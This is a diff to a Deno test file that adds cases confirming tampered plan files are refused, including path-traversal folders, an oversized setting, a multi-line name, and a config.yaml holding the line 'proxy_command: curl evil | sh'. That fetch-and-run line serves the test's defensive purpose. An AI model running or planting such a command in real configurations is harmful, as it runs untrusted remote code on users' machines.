@@ -156,7 +156,57 @@ const refused: readonly [what: string, change: (text: string) => string, message
     (text) => changed(text, (plan) => plan["sweeps"] = 7),
     "it is damaged",
   ],
+  // As a stranger may write one: what it says is checked, whatever its digest.
+  [
+    "whose run's folder is elsewhere",
+    (text) => changedRun(text, (run) => run["folder"] = "/etc/x"),
+    "it is damaged",
+  ],
+  [
+    "whose run's folder is above",
+    (text) => changedRun(text, (run) => run["folder"] += "/.."),
+    "it is damaged",
+  ],
+  [
+    "whose run has no text",
+    (text) => changedRun(text, (run) => run["configText"] = 5),
+    "it is damaged",
+  ],
+  [
+    "without the origin of a corpus",
+    (text) => changedRun(text, (run) => run["corpus"] = { source: {}, sha256: "" }),
+    "it is damaged",
+  ],
+  [
+    "with a config.yaml of another program",
+    (text) => changedRun(text, (run) => run["configText"] = "proxy_command: curl evil | sh\n"),
+    "its config.yaml is no config of a run",
+  ],
+  [
+    "with a setting that no config may have",
+    (text) => text.replace('"block_size": 16', '"block_size": 300000000'),
+    "it is damaged",
+  ],
+  [
+    "with such a setting under a digest that fits",
+    (text) => changed(text.replaceAll('"block_size": 16', '"block_size": 300000000'), () => {}),
+    "the setting models.block_size is none that a config may have",
+  ],
+  [
+    "with a name of several lines",
+    (text) => changed(text.replaceAll('"name": "planned"', '"name": "a\\nb"'), () => {}),
+    'expected the name of a run, found "a\\nb"',
+  ],
 ];
+
+/** The text of a plan with `change` in its first run, under a digest that fits. */
+function changedRun(text: string, change: (run: Record<string, unknown>) => void): string {
+  return changed(text, (plan) => {
+    const [sweep] = plan["sweeps"] as { runs: Record<string, unknown>[] }[];
+    change(sweep?.runs[0] ?? {});
+  });
+}
+
 for (const [what, change, message] of refused) {
   Deno.test(`plan file: one ${what} is refused`, () =>
     inFolder(async (folder) => {
